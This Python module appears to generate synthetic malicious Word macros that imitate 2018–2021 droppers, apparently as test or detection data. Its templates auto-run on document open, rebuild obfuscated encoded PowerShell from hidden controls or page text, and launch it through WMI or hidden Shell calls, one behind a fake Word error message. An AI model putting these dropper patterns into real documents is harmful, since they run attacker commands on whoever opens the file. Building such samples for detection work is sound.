"""Macros in the styles of 2018-04 to 2021-01, of our own writing, and where each keeps its command.

They are skeletons: half of their names are defined nowhere, as in the field, and the addresses are nobody's.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from random import Random

from support.carriers.commands import alphabet, powershell, pseudo_word
from support.document_decoys import command, good_separator, name, strewn
from support.draws import letters
from support.office.forms_writer import FormControl
from support.office.vba_writer import Source

WMI = ("winmgmts:Win32_Process", "winmgmts:Win32_ProcessStartup")


@dataclass(frozen=True)
class Macro:
    """Modules, what lies on the page, what lies in forms, and what the page says."""

    modules: tuple[Source, ...]
    controls: tuple[FormControl, ...] = ()
    forms: dict[str, tuple[FormControl, ...]] = field(default_factory=dict)
    text: str = ""


def junk(draw: Random) -> str:
    """Four lines that do nothing."""
    a, b, c = (name(draw) for _ in range(3))
    number = draw.randint(10, 9999)
    return draw.choice(
        (
            f"Select Case {a}\nCase {number}\n{b} = CSng({number})\n{c} = Rnd({b})\nEnd Select\n",
            f"{a} = CDate({number}) + Log({b})\n{a} = Log({b})\n{a} = {b}\n{a} = {b}\n",
            f'Rem {name(draw)} http://{letters(draw, 4, 8)}.example.com/{a} http://example.com/{c}\nDebug.Print "{a}"\n',
            f"While {a} = {number} + 1\nDim {c}()\nReDim {c}(3)\nWend\n{b} = {a}\n",
        )
    )


def wmi(draw: Random, text: str, place: str) -> Macro:
    """2019-09 to 2021-01: pieces of controls without the separator, WMI under hidden names, no window. *place*: page or form."""
    own, first, second, form = (name(draw) for _ in range(4))
    main, strip, startup, small, big = (name(draw) for _ in range(5))
    between = good_separator(draw, text, *WMI)
    owner = own if place == "page" else form
    get, start = draw.choice(("GetObject", "CreateObject")), draw.choice(("autoopen", "autoopen", "Document_open"))
    wrapper = draw.choice((f'Replace(a, "{between}", "")', f'Join(Split(a, "{between}"), "")'))
    window = draw.choice(
        ("ShowWindow = wdLinkNone", "ShowWindow = wdXMLValidationStatusOK", f"XSize = {name(draw)}", "ShowWindow = False")
    )
    create = draw.choice((".Create(", ".Create#(", ". _\n _\nCreate("))
    code = (
        f'Function {main}()\nOn Error Resume Next\n{junk(draw)}x = "p" + {strip}({owner}.{small} + {owner}.{big})\n{junk(draw)}'
        f'Set o = {get}({strip}({strip}("{strewn(draw, WMI[0], between)}")))\n{junk(draw)}'
        f"y = y + o{create}x, {name(draw)}, {startup}(), {name(draw)})\nEnd Function\n"
        f"Function {strip}(a)\n{junk(draw)}{strip} = {wrapper}\nEnd Function\n"
    )
    other = (
        f'Function {startup}()\n{junk(draw)}Set {startup} = {get}({strip}({strip}("{strewn(draw, WMI[1], between)}")))\n'
        f"{startup}.{window}\nEnd Function\n"
    )
    begin = f"Sub {start}()\n{main}\nEnd Sub\n" if draw.random() < 0.5 else f"Sub _\n{start}( _\n)\n{main}\nEnd Sub\n"
    in_own = start == "Document_open"
    modules = [
        Source(own, begin if in_own else "", "document"),
        Source(first, code),
        Source(second, other + ("" if in_own else begin)),
        Source(name(draw)),
    ]
    held = (
        FormControl(small, strewn(draw, powershell(draw, "")[:-1].strip() + " ", between)),
        FormControl(big, strewn(draw, text, between)),
    )
    if place == "page":
        return Macro(tuple(modules), held)
    return Macro((*modules, Source(form, form="form")), forms={form: held})


def group_name(draw: Random, text: str) -> Macro:
    """2020-01 on: the command is a property of a control in a form, pieces stand in tags; ChrW(wdKeyP) begins it."""
    kept, field = draw.choice((("GroupName", "group_name"), ("Tag", "tag"), ("ControlTipText", "tip"), ("Caption", "caption")))
    own, module, form, decoy = (name(draw) for _ in range(4))
    main, cut, big, small = (name(draw) for _ in range(4))
    between = good_separator(draw, text, *WMI)
    code = (
        f"Function {main}()\nv = ChrW(wdKeyP) + {form}.{small}.Tag + {form}.{big}.{kept}\n{junk(draw)}"
        f'Set f = GetObject({cut}("{strewn(draw, WMI[1], between)}"))\nf. _\nshowwindow = False\n'
        f'For {letters(draw, 8, 9)} = 1 To 1\nDo While GetObject({cut}("{strewn(draw, WMI[0], between)}"))'
        f".Create({cut}(v), {name(draw)}, f, {name(draw)})\n"
        f'Loop\nNext\nEnd Function\nFunction {cut}(a)\n{junk(draw)}{cut} = Join(Split(a, "{between}"), "")\nEnd Function\n'
    )
    start = f"Private Sub Document_open()\n{main}\nEnd Sub\n"
    controls = (
        FormControl(big, form="OptionButton", **{field: strewn(draw, text, between)}),
        FormControl(small, form="OptionButton", tag=strewn(draw, powershell(draw, ""), between)),
    )
    modules = (Source(own, start, "document"), Source(module, code), Source(form, form="form"), Source(decoy, form="form"))
    return Macro(modules, forms={form: controls, decoy: ()})


def combo(draw: Random, text: str) -> Macro:
    """2019-05: ThisDocument keeps its name; three combo boxes are joined; the words of WMI are added from two pieces."""
    first, second, startup, main = (name(draw) for _ in range(4))
    boxes = [letters(draw, 6, 8) for _ in range(3)]
    half = len(text) // 2
    code = (
        f'Function {main}()\nDebug.Print "{name(draw)}" + ("nnn" + ("aaaa"))\n'
        f"p = ThisDocument.{boxes[0]} + ThisDocument.{boxes[1]} + ThisDocument.{boxes[2]}\n"
        f'CreateObject(("winmg" + "mts:Win32_Process")).Create# p, {name(draw)}, {startup}, {name(draw)}\nEnd Function\n'
    )
    other = (
        f'Function {startup}()\nSet {startup} = CreateObject(("winmg" + "mts:Win32_ProcessStartup"))\nWith {startup}\n. _\n'
        f"ShowWindow = {name(draw)} + {name(draw)}\nEnd With\nEnd Function\n"
    )
    values = ("p" + powershell(draw, ""), text[:half], text[half:])
    modules = (
        Source("ThisDocument", f"Sub _\nautoopen( _\n)\n{main}\nEnd Sub\n", "document"),
        Source(first, code), Source(second, other), Source(name(draw)), Source(name(draw), form="class"),
    )  # fmt: skip
    return Macro(modules, tuple(FormControl(box, value, "ComboBox") for box, value in zip(boxes, values, strict=True)))


def cut_literals(draw: Random, text: str) -> Macro:
    """2018-04: many literals in the code, with junk at both ends, cut with one helper."""
    cut, main, own = (name(draw) for _ in range(3))
    whole, parts, at = "p" + text, [], 0
    while at < len(whole):
        step = draw.randint(12, 30)
        before = draw.randint(2, 6)
        piece = whole[at : at + step]
        literal = letters(draw, before, before) + piece + letters(draw, 2, 6)
        a, b = name(draw), name(draw)
        parts.append(f'{cut}("{literal}", {before + 1} + {a} - {a}, {len(piece)} + {b} - {b})')
        at += step
    added = "".join(f"x = x + {one}\n{junk(draw) if draw.random() < 0.2 else ''}" for one in parts)
    shell = f"WScr{letters(draw, 4, 4)}ipt.Shell"
    hidden = f'Replace("{shell}", "{shell[4:8]}", "")'
    code = (
        f"Function {main}()\n{added}CreateObject({hidden}).Run x, vbHide\nEnd Function\n"
        f"Function {cut}(a, b, c)\n{cut} = Mid(a, b, c)\nEnd Function\n"
    )
    modules = (Source(own, f'Sub AutoOpen()\nApplication.Run "{main}"\nEnd Sub\n', "document"), Source(name(draw), code))
    return Macro(modules)


def page_text(draw: Random, text: str) -> Macro:
    """2018-12: the page itself says the command, an alphabet and the places in it; Shell stands in an array of nothing."""
    own, module, main = (pseudo_word(draw) + letters(draw, 8, 14) for _ in range(3))
    blank = name(draw)
    code = (
        f"Function {main}()\nx = ({draw.randint(10, 999)} + Round({blank}) * 7 - {blank} + ({blank} / Tan({blank})))\n"
        f'Set s = {own}.Shapes({blank} + "{letters(draw, 6, 9)}" + {blank})\n'
        f"y = Array({blank}, {blank}, Interaction _\n.Shell(s.TextFrame.ContainingRange, {blank}), {blank})\nEnd Function\n"
    )
    modules = (Source(own, f"Sub autoopen()\n{main}\nEnd Sub\n", "document"), Source(module, code))
    return Macro(modules, text=alphabet(draw, "powershell -e " + text[:400]))


def shape(draw: Random, text: str) -> Macro:
    """Late 2018: a shape's text, and everything in the renamed module of the document."""
    own, blank = name(draw), name(draw)
    code = (
        f'Private Sub Document_open()\nFormatNumber ({blank})\nTimeValue {name(draw)}\nShell ("" + {blank} + {name(draw)} '
        f"+ Shapes({name(draw)} + 1).TextFrame.TextRange.Text + {blank}), 9 - 9\nEnd Sub\n"
    )
    said = f"cmd /c PoWeRsHeLl -e {text}"
    return Macro((Source(own, code, "document"), Source(name(draw))), text=said)


def page_of_2020(draw: Random, text: str) -> Macro:
    """2020-10 to 2021-01: the page's text with a separator, small and white; Document_open in the renamed module."""
    own, module, main, strip = (name(draw) for _ in range(4))
    between = good_separator(draw, text, *WMI)
    code = (
        f"Function {main}()\n{junk(draw)}x = {own}.StoryRanges(1)\nb = {strip}(Mid(x, 5, Len(x)))\n"
        f'Set o = CreateObject({strip}("{strewn(draw, WMI[0], between)}"))\no.Create b, {name(draw)}, {name(draw)}\nEnd Function\n'
        f'Function {strip}(a)\n{strip} = Join(Split(a, "{between}"), "")\nEnd Function\n'
    )
    start = f"Private Sub Document_open()\n{main}\nEnd Sub\n"
    said = strewn(
        draw, "cmd cmd cmd cmd /c msg %username% /v Word experienced an error & P^Ow^er^she^L^L -w hidden -ENCOD ", between
    )
    return Macro(
        (Source(own, start, "document"), Source(module, code)), text=letters(draw, 4, 4) + said + strewn(draw, text, between)
    )


def command_of_2019(draw: Random) -> str:
    """In base64."""
    from support.document_decoys import encoded

    return encoded(command(draw))
